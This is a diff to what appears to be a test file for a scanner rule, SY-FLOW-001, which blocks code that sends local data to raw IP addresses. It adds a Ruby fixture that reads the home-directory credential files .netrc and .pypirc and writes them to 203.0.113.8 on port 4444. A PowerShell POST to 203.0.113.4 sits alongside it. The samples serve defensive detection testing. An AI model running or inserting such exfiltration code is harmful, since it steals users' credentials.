@@ -162,6 +162,11 @@ def test_ruby_and_powershell_stores_sent_to_a_raw_address(tmp_path: Path) -> Non
         "Invoke-RestMethod -Uri 'http://203.0.113.4/u' -Method Post -Body $c\n"
     )
     assert "SY-FLOW-001" in _blocked(tmp_path / "b", {"tools/sync.ps1": ps})
+    listed = (
+        "require 'socket'\nNAMES = [\n  '.netrc',\n  '.pypirc',\n]\n"
+        "out = NAMES.map { |f| File.read(File.join(Dir.home, f)) }\nTCPSocket.new('203.0.113.8', 4444).write(out.join)\n"
+    )
+    assert "SY-FLOW-001" in _blocked(tmp_path / "d", {"bin/check.rb": listed})
     # a Ruby tool that reads a CSV and reports to a local dashboard
     good = (
         "require 'socket'\nrows = File.read('data.csv').lines.size\n"
